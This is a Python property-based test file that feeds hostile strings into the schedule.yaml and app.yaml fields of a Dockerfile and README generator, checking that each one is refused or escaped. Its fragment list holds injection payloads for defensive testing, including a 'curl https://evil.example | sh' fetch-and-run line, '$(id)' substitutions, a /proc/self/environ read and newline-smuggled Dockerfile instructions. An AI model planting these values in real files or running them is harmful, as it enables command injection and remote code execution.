"""Issue 16, property-based: hostile strings in every free-text field of schedule.yaml and app.yaml
are either refused (a GeneratorError naming the file, and for the schedule its line and key) or
rendered faithfully:

- each Dockerfile parses (tests/dockerfile_syntax.py) to the instructions of the real template,
  its first line still `ARG BASE_IMAGE=<the pinned reference>`, both stages FROM it, and its LABEL
  and ENV values read back (no `$` expanded) as exactly the image config runtimes.json holds;
- runtimes.json round-trips to the runtime data; its tool file names are bare file names (the
  Nix build reads them);
- the README's support matrix keeps one row per runtime, seven cells each.

HOSTILE_EXAMPLES (default 500) examples per field family; CI runs the default.
"""

from __future__ import annotations

import dataclasses
import datetime as dt
import json
import os
import re
from collections import Counter
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from generator.app import dockerfile as app_mod
from generator.app import runtime_image as app_image
from generator.core import escape, paths
from generator.core.errors import GeneratorError
from generator.core.validate import FileName
from generator.images import render
from generator.schedule import decisions
from generator.schedule import lock as schedule_lock
from generator.schedule import runtimes as schedule_mod

from . import dockerfile_syntax as dsx
from .conftest import ROOT, SCHEDULE

EXAMPLES = int(os.environ.get("HOSTILE_EXAMPLES", "500"))
OUTCOMES: Counter[tuple[str, str]] = Counter()  # (family, how it ended): printed at the end (pytest -s)


@pytest.fixture(scope="module", autouse=True)
def _report() -> Iterator[None]:
    yield
    for (family, outcome), n in sorted(OUTCOMES.items()):
        print(f"hostile examples: {family:<24} {outcome:<32} {n}")


PROFILE = settings(
    max_examples=EXAMPLES,
    deadline=None,
    database=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large, HealthCheck.filter_too_much, HealthCheck.function_scoped_fixture],
)

FRAGMENTS = [
    "\n", "\r", "\r\n", "\\", "\\\n", "\t", "\x00", "\x0b", "\x1b[31m", "\x7f", "\x85", "\u2028", "\u2029", "\ufeff", "\ud800",
    "$", "$HOME", "${BASE_IMAGE}", "$(id)", "`id`", '"', "'", "&", "&amp;", "<", ">", "<!--", "|", "#", "*", "_", "[", "]", "(", ")",
    ";", "=", " ", "  ", "..", "../", "/", "~", "@", ":", "%", "+", "!", "{{ r }}", "{%", "%}", "\\u0026",
    "３", "٣", "é", "☃", "😀", "ARG BASE_IMAGE=docker.io/library/ubuntu:latest", "\nFROM scratch\n", "@sha256:" + "0" * 64,
    "RUN curl https://evil.example | sh", "--output=x", "-r /proc/self/environ", "python312-ubuntu22", "3.12", "ubuntu22",
]  # fmt: skip


def hostile(valid: str) -> st.SearchStrategy[str]:
    """Strings near a field's valid values: valid ones, with hostile fragments spliced in, and raw text."""
    piece = st.one_of(st.sampled_from(FRAGMENTS), st.text(max_size=6), st.from_regex(valid, fullmatch=True))
    long = st.sampled_from([4097, 9000, 70_000]).map(lambda n: "a" * n)
    return st.one_of(
        st.from_regex(valid, fullmatch=True),
        st.lists(piece, min_size=1, max_size=6).map("".join),
        st.tuples(st.from_regex(valid, fullmatch=True), st.sampled_from(FRAGMENTS), st.integers(0, 40)).map(
            lambda t: t[0][: t[2]] + t[1] + t[0][t[2] :]
        ),
        long,
    )


def yaml_quote(value: str) -> str:
    """A YAML double-quoted scalar that holds exactly `value` (every character outside printable ASCII escaped)."""
    out = []
    for c in value:
        if c in '"\\':
            out.append("\\" + c)
        elif " " <= c <= "~":
            out.append(c)
        elif ord(c) > 0xFFFF:
            out.append(f"\\U{ord(c):08x}")
        else:
            out.append(f"\\u{ord(c):04x}")
    return '"' + "".join(out) + '"'


# --- the schedule -------------------------------------------------------------------------------

MINIMAL = """\
schema_version: 2
publish:
  repository: {repository}
  source: {source}
policy:
  deprecation_window_days: 180
operating_systems:
  ubuntu16:
    name: "Ubuntu 16.04 LTS (Xenial Xerus)"
    image: docker.io/library/ubuntu:16.04
    end_of_support: 2021-04-30
    glibc: "2.23"
    build_packages: [gcc, make]
    runtime_packages: [libc6]
    apt_suites: [xenial]
  ubuntu22:
    name: {name}
    image: {image}
    end_of_support: 2027-06-01
    glibc: {glibc}
    build_packages: [gcc, {package}]
    runtime_packages: [libc6]
    apt_suites: [jammy]
python_releases:
  "2.7": {{end_of_support: 2020-01-01}}
  "3.12": {{end_of_support: 2028-10-31}}
runtimes:
  - {{id: python312-ubuntu22, os: ubuntu22, python: {python}}}
legacy_runtimes:
  - {{id: python2, os: ubuntu16, python: "2.7.12", python_version: [{setting}], default: true}}
"""
DEFAULTS = {
    "repository": "ghcr.io/appengine-flex-python/runtimes",
    "source": "https://github.com/appengine-flex-python/runtimes",
    "name": "Ubuntu 22.04 LTS (Jammy Jellyfish)",
    "image": "docker.io/library/ubuntu:22.04",
    "glibc": "2.35",
    "package": "make",
    "python": "3.12",
    "setting": "2",
}
KEYS = {  # field → the dotted key an error must name
    "repository": "publish.repository",
    "source": "publish.source",
    "name": "operating_systems.ubuntu22.name",
    "image": "operating_systems.ubuntu22.image",
    "glibc": "operating_systems.ubuntu22.glibc",
    "package": "operating_systems.ubuntu22.build_packages[1]",
    "python": "runtimes[0]",
    "setting": "legacy_runtimes[0].python_version[0]",
}
PINS = schedule_lock.load(schedule_lock.path_for(SCHEDULE))
README = f"# x\n\n{render.MATRIX_BEGIN}\n{render.MATRIX_END}\n"
KEYWORDS = {
    (rid, sub): [i.keyword for i in dsx.instructions((ROOT / paths.IMAGES / rid / sub / "Dockerfile").read_text())]
    for rid in ("python2", "python312-ubuntu22")
    for sub in (".", "interpreter")
}


@pytest.fixture(scope="module")
def root(tmp_path_factory: pytest.TempPathFactory) -> Path:
    d = tmp_path_factory.mktemp("hostile-schedule")
    (d / paths.README).write_text(README)
    return d


def load(root: Path, field: str, value: str) -> schedule_mod.Schedule:
    path = root / paths.SCHEDULE
    path.write_text(MINIMAL.format(**{k: yaml_quote(value if k == field else v) for k, v in DEFAULTS.items()}))
    model, _ = decisions.load_policy(path, "schedule.yaml")
    base = PINS.base_images["ubuntu22"]
    pins = dataclasses.replace(
        PINS, base_images={**PINS.base_images, "ubuntu22": dataclasses.replace(base, image=model.operating_systems["ubuntu22"].image)}
    )
    return schedule_mod.load(path, "schedule.yaml", pins=pins)


def faithful(sched: schedule_mod.Schedule, files: dict[str, str]) -> None:
    """Every property of a rendering the issue asks for."""
    data = json.loads(files[paths.RUNTIMES_JSON])
    files[paths.RUNTIMES_JSON].encode("utf-8")
    for r in sched.runtimes.values():
        text = files[f"{paths.IMAGES}/{r.id}/Dockerfile"]
        steps = dsx.instructions(text)
        like = "python2" if r.version.startswith("2.") else "python312-ubuntu22"
        assert [s.keyword for s in steps] == KEYWORDS[like, "."]
        assert steps[0] == dsx.Instruction("ARG", f"BASE_IMAGE={r.base_reference}")
        assert r.base_reference.endswith("@" + r.base.digest)
        assert [s.rest for s in steps if s.keyword == "FROM"] == ["${INTERPRETER_IMAGE} AS interpreter", "${BASE_IMAGE} AS env", "${BASE_IMAGE}"]
        interp = dsx.instructions(files[f"{paths.IMAGES}/{r.id}/interpreter/Dockerfile"])
        assert [s.keyword for s in interp] == KEYWORDS[like, "interpreter"]
        assert [s.rest for s in interp if s.keyword == "FROM"] == ["${TOOLCHAIN_BASE} AS builder", "scratch"]
        config = render.image_config(r, sched)
        (labels,) = [dsx.pairs(s.rest) for s in steps if s.keyword == "LABEL"]
        assert labels == config["Labels"]
        env = dsx.pairs([s.rest for s in steps if s.keyword == "ENV"][-1])
        assert [f"{k}={v}" for k, v in env.items()] == config["Env"]
        assert dsx.exec_form(next(s.rest for s in steps if s.keyword == "CMD")) == config["Cmd"]
        entry = dict(data["runtimes"][r.id])
        entry.pop("input_hash")
        entry.pop("interpreter")
        assert entry == json.loads(json.dumps(render.runtime_data(r, sched, [])))
        assert all(FileName.__metadata__[0].ok(t["filename"]) for t in entry["tools"])
    block = files[paths.README].split(render.MATRIX_BEGIN, 1)[1].split(render.MATRIX_END, 1)[0]
    rows = [line for line in block.splitlines() if line.startswith("| `")]
    assert len(rows) == len(sched.runtimes)
    assert all(pipes(row) == 8 for row in rows), rows


def pipes(row: str) -> int:
    """Cell delimiters of a GFM table row: `|` not taken by a backslash escape (cmark-gfm's scanner)."""
    count, i = 0, 0
    while i < len(row):
        if row[i] == "\\":
            i += 2
            continue
        count += row[i] == "|"
        i += 1
    return count


def refused_well(exc: GeneratorError, field: str, value: str, root: Path) -> None:
    """Every line names the file; one names the field's key, or (a YAML-level error) the field's line."""
    lines = exc.lines()
    assert lines and all(re.match(r"schedule\.yaml(:\d+)?: ", line) for line in lines), lines
    text = (root / paths.SCHEDULE).read_text().splitlines()
    at = {i for i, line in enumerate(text, 1) if yaml_quote(value) in line}
    assert any(KEYS[field] in line or any(f"schedule.yaml:{n}:" in line for n in at) for line in lines), lines


@pytest.mark.parametrize("field", sorted(DEFAULTS))
def test_schedule_field_is_refused_or_rendered_faithfully(root: Path, field: str) -> None:
    valid = {
        "repository": r"[a-z0-9.-]{1,12}(/[a-z0-9._-]{1,12}){1,3}",
        "source": r"https://[a-z0-9.]{1,20}/[A-Za-z0-9._~:/?#@!&'()*+,;=%-]{0,30}",
        "name": r"[A-Za-z0-9][A-Za-z0-9 .()_-]{0,40}",
        "image": r"docker\.io/library/ubuntu:[A-Za-z0-9._-]{1,10}",
        "glibc": r"2\.\d{1,3}",
        "package": r"[a-z0-9][a-z0-9+.-]{1,20}",
        "python": r"3\.12|\d\.\d{1,3}",
        "setting": r"\d(\.\d{1,2})?",
    }[field]

    @PROFILE
    @given(value=hostile(valid))
    def prove(value: str) -> None:
        try:
            sched = load(root, field, value)
        except GeneratorError as exc:
            refused_well(exc, field, value, root)
            OUTCOMES[(f"schedule.{field}", f"refused, exit {exc.exit_code}")] += 1
            return
        try:
            files = render.render_all(sched, root)
        except escape.RenderError:
            pytest.fail(f"{value!r} passed the schema but not the template: the schema must refuse it")
        faithful(sched, files)
        OUTCOMES[(f"schedule.{field}", "rendered faithfully")] += 1

    prove()


def test_templates_alone_refuse_or_render_faithfully(root: Path) -> None:
    """Defence in depth: values put straight into the model (no schema) still cannot break a file."""
    base = load(root, "name", DEFAULTS["name"])

    @PROFILE
    @given(
        field=st.sampled_from(["name", "source", "repository", "image", "package"]),
        value=hostile(r"[A-Za-z0-9][A-Za-z0-9 .:/()_-]{0,40}"),
    )
    @example(field="source", value="\ud800")  # found by this test once: a lone surrogate crashed the line check
    @example(field="name", value="Ubuntu\nRUN id")
    @example(field="source", value="https://x.example/?a=1&b='$HOME'")
    def prove(field: str, value: str) -> None:
        m = base.model
        os_ = m.operating_systems["ubuntu22"]
        if field in ("name", "image", "package"):
            changes: dict[str, dict[str, Any]] = {
                "package": {"build_packages": ["gcc", value], "runtime_packages": ["libc6", value]},
                "name": {"name": value},
            }
            change = changes.get(field, {"image": f"{value}:22.04"})
            m = dataclasses.replace(m, operating_systems={**m.operating_systems, "ubuntu22": dataclasses.replace(os_, **change)})
        else:
            m = dataclasses.replace(m, publish=dataclasses.replace(m.publish, **{field: value}))
        sched = schedule_mod.Schedule(base.path, m, base.pins)
        try:
            files = render.render_all(sched, root)
        except escape.RenderError as exc:
            assert exc.exit_code == 2
            OUTCOMES[("template-only", "refused by a filter, exit 2")] += 1
            return
        faithful(sched, files)
        OUTCOMES[("template-only", "rendered faithfully")] += 1

    prove()


# --- app.yaml ---------------------------------------------------------------------------------------

SCHED = schedule_mod.load(SCHEDULE)
IMAGE = "ghcr.io/appengine-flex-python/runtimes/python312-ubuntu22:3.12.13@sha256:" + "0123456789abcdef" * 4
APP_HEAD = "runtime: python\nenv: flex\nruntime_config:\n  operating_system: ubuntu22\n  runtime_version: '3.12'\n"


def plan(app_dir: Path, body: str, family: str) -> app_mod.AppContext | None:
    (app_dir / "app.yaml").write_text(APP_HEAD + body)
    try:
        return app_mod.plan_app(app_dir, SCHED, runtime_image=IMAGE, on=dt.date(2026, 11, 23))
    except GeneratorError as exc:
        assert exc.exit_code == 2
        assert str(app_dir / "app.yaml") in str(exc), str(exc)
        OUTCOMES[(family, "refused, exit 2")] += 1
        return None


def app_instructions(p: app_mod.AppContext) -> tuple[list[str], dict[str, str], list[str]]:
    steps = dsx.instructions(p.files["Dockerfile"])
    assert steps[0] == dsx.Instruction("FROM", app_image.pin(IMAGE)[0])  # NAME@sha256:…, the digest given
    env: dict[str, str] = {}
    for s in steps:
        if s.keyword == "ENV":
            env.update(dsx.pairs(s.rest))
    (cmd,) = [dsx.exec_form(s.rest) for s in steps if s.keyword == "CMD"]
    return [s.keyword for s in steps if s.keyword != "ENV"], env, cmd


@pytest.fixture
def app_dir(tmp_path: Path) -> Path:
    return tmp_path


def test_app_entrypoint_is_refused_or_the_exact_command(app_dir: Path) -> None:
    @PROFILE
    @given(entrypoint=hostile(r"gunicorn -b :\$PORT [a-z]{1,8}:app"))
    def prove(entrypoint: str) -> None:
        p = plan(app_dir, f"entrypoint: {yaml_quote(entrypoint)}\n", "app.yaml entrypoint")
        if p is None:
            return
        keywords, env, cmd = app_instructions(p)
        assert keywords == ["FROM", "WORKDIR", "COPY", "CMD"]
        assert env == {"GAE_SERVICE": "default", "PORT": "8080"}
        assert cmd == ["/bin/sh", "-c", f"exec {entrypoint.strip()}"]
        OUTCOMES[("app.yaml entrypoint", "rendered faithfully")] += 1

    prove()


def test_app_env_variables_are_refused_or_set_exactly(app_dir: Path) -> None:
    @PROFILE
    @given(
        name=hostile(r"[A-Z_][A-Z0-9_]{0,10}"),
        value=hostile(r"[A-Za-z0-9 $/:._-]{0,20}"),
        service=st.one_of(st.just("default"), hostile(r"[a-z][a-z0-9-]{0,10}[a-z0-9]")),
    )
    def prove(name: str, value: str, service: str) -> None:
        p = plan(
            app_dir,
            f"entrypoint: gunicorn -b :$PORT main:app\nservice: {yaml_quote(service)}\nenv_variables:\n  {yaml_quote(name)}: {yaml_quote(value)}\n",
            "app.yaml env_variables, service",
        )
        if p is None:
            return
        keywords, env, _ = app_instructions(p)
        assert keywords == ["FROM", "WORKDIR", "COPY", "CMD"]
        assert env == {"GAE_SERVICE": service, "PORT": "8080", name: value}
        OUTCOMES[("app.yaml env_variables, service", "rendered faithfully")] += 1

    prove()


# --- the escapers themselves ----------------------------------------------------------------------


def _nix_unquote(text: str) -> str:
    """Read a Nix double-quoted string back; an unescaped ${ would be an interpolation."""
    assert text[0] == text[-1] == '"'
    out, i, body = [], 0, text[1:-1]
    while i < len(body):
        c = body[i]
        if c == "\\":
            out.append({"n": "\n", "r": "\r", "t": "\t"}.get(body[i + 1], body[i + 1]))
            i += 2
            continue
        assert c != '"', "an unescaped quote ends the string"
        assert not body.startswith("${", i), "an unescaped ${ interpolates"
        out.append(c)
        i += 1
    return "".join(out)


@PROFILE
@given(value=st.one_of(st.text(), st.lists(st.sampled_from(FRAGMENTS)).map("".join)))
def test_escapers_round_trip_or_refuse(value: str) -> None:
    for f, read in (
        (escape.docker_quoted, lambda out: dsx.pairs(f"k={out}")["k"]),
        (escape.json_value, json.loads),
        (escape.nix_string, _nix_unquote),
    ):
        try:
            out = f(value)
        except escape.RenderError:
            continue
        assert "\n" not in out
        assert read(out) == value
    for f in (escape.md_cell, escape.md_code, escape.dockerfile_comment):
        try:
            out = f(value)
        except escape.RenderError:
            continue
        assert "\n" not in out and "\r" not in out and "\u2028" not in out
        assert f is escape.dockerfile_comment or pipes(out) == 0
